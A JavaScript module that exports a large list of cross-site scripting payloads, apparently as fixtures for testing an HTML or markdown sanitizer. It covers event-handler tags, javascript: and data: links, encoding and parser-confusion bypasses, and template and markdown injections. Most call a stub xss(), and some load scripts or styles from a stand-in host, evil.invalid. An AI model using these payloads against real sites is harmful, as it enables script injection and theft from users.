// What people write who want a page to run what they wrote. Each calls xss() or alert(), or loads something from
// elsewhere, if it works.
const handlers = [
  ['img src=x', 'onerror'], ['svg', 'onload'], ['body', 'onload'], ['body', 'onpageshow'], ['input autofocus', 'onfocus'],
  ['video src=x', 'onerror'], ['audio src=x', 'onerror'], ['details open', 'ontoggle'], ['marquee', 'onstart'],
  ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['iframe', 'onload'], ['object data=x', 'onerror'],
  ['a href=# autofocus tabindex=1', 'onfocus'], ['div style=animation-name:x', 'onanimationstart'], ['p', 'onpointerenter'],
  ['b', 'onmouseover'], ['dialog open', 'onclose'], ['form', 'onsubmit'], ['image src=x', 'onerror'], ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'], ['script src=x', 'onerror'], ['math', 'onclick'], ['svg><animate attributeName=x dur=1s', 'onbegin'],
];

const links = [
  'javascript:xss()', 'JaVaScRiPt:xss()', ' javascript:xss()', 'java\tscript:xss()', 'javascript&colon;xss()', '&#106;avascript:xss()',
  'data:text/html,<script>xss()</script>', 'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==', 'vbscript:xss()', 'blob:null/xss',
  'javascript://example.org/%0axss()', 'https://user:pass@evil.invalid/', 'https:javascript:xss()', '//evil.invalid/x.js', 'file:///etc/passwd',
  'http://example.org/"onmouseover="xss()', "http://example.org/'onmouseover='xss()", 'http://example.org/<img src=x onerror=xss()>',
  'https://example.org/`onload=xss()`', 'https://example.org/#"><svg onload=xss()>',
];

const others = [
  '<script>xss()</script>', '<script src=//evil.invalid/x.js></script>', '<SCRIPT>xss()</SCRIPT>', '<scr<script>ipt>xss()</scr</script>ipt>',
  '"><script>xss()</script>', "'><script>xss()</script>", '</textarea><script>xss()</script>', '</title><script>xss()</script>',
  '</style><script>xss()</script>', '--><script>xss()</script>', ']]><script>xss()</script>', '</option></select><img src=x onerror=xss()>',
  '" onfocus="xss()" autofocus x="', "' onfocus='xss()' autofocus x='", '` onfocus=`xss()` autofocus', '" style="background:url(//evil.invalid)"',
  '" onmouseover="xss()', 'x" onerror="xss()', "x' onerror='xss()", '<iframe srcdoc="<script>parent.xss()</script>">',
  '<iframe src="javascript:parent.xss()">', '<object data="javascript:xss()">', '<embed src="javascript:xss()">', '<base href=//evil.invalid/>',
  '<meta http-equiv=refresh content="0;url=javascript:xss()">', '<form action=javascript:xss()><button>x', '<a href=javascript:xss()>x</a>',
  '<isindex type=image src=1 onerror=xss()>', '<svg><script>xss()</script></svg>', '<svg><a xlink:href=javascript:xss()><text>x',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x">', '<svg><foreignObject><script>xss()</script>', '<math><mtext><img src=x onerror=xss()>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss()>', '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<template><script>xss()</script></template>', '<style>@import "//evil.invalid/x.css";</style>', '<style>*{background:url(//evil.invalid)}</style>',
  '<link rel=preload href=//evil.invalid/x as=script>', '<img src=//evil.invalid/x.png>', '<img srcset="x 1x" onerror=xss()>', '<video poster=//evil.invalid/x>',
  '<img src="x`onerror=xss()">', '<img/src/onerror=xss()>', '<img\nsrc=x\nonerror=xss()>', '<img src=x onerror\n=xss()>', '<<img src=x onerror=xss()>>',
  '&lt;img src=x onerror=xss()&gt;', '&#60;script&#62;xss()&#60;/script&#62;', '\\u003cscript\\u003exss()\\u003c/script\\u003e', '%3Cscript%3Exss()%3C/script%3E',
  '＜script＞xss()＜/script＞', '\u202e<script>xss()</script>', '\u00adjavascript:xss()', '<scrİpt>xss()</scrİpt>', 'ſcript:xss()',
  '{{constructor.constructor("xss()")()}}', '${xss()}', '#{xss()}', '<%= xss() %>', '{@html "<img src=x onerror=xss()>"}', '{xss()}', '[[xss()]]',
  '[x](javascript:xss())', '[x](javascript:xss() "t")', '![x](javascript:xss())', '![x](//evil.invalid/x.png)', '![x" onerror="xss()](x)', '<javascript:xss()>',
  '[x]: javascript:xss()\n[x]', '[![x](x)](javascript:xss())', '**<img src=x onerror=xss()>**', '`<script>xss()</script>`', '```html\n<script>xss()</script>\n```',
  '```"><script>xss()</script>\nx\n```', '> <img src=x onerror=xss()>', '- <img src=x onerror=xss()>', '1. <img src=x onerror=xss()>',
  '~~<svg onload=xss()>~~', '*<b onmouseover=xss()>*', '_javascript:xss()_', 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=xss() )//',
  '";xss();//', "';xss();//", '*/xss()/*', '</script><script>xss()//', '__proto__', 'constructor', 'toString', 'javascript:void(xss())//https://example.org',
  '<x onclick=xss()>', '<x contenteditable onblur=xss()>', '<x onpointerrawupdate=xss()>', '<xss id=x tabindex=1 onfocus=xss()></xss>',
  '<input type=image src=x onerror=xss()>', '<button popovertarget=x>x</button><div id=x popover onbeforetoggle=xss()>', '<a ping=//evil.invalid href=#>x',
];

export const payloads = [
  ...handlers.map(([tag, event]) => `<${tag} ${event}=xss()>`),
  ...handlers.slice(0, 8).map(([tag, event]) => `"><${tag} ${event}=alert(1)//`),
  ...links,
  ...others,
];
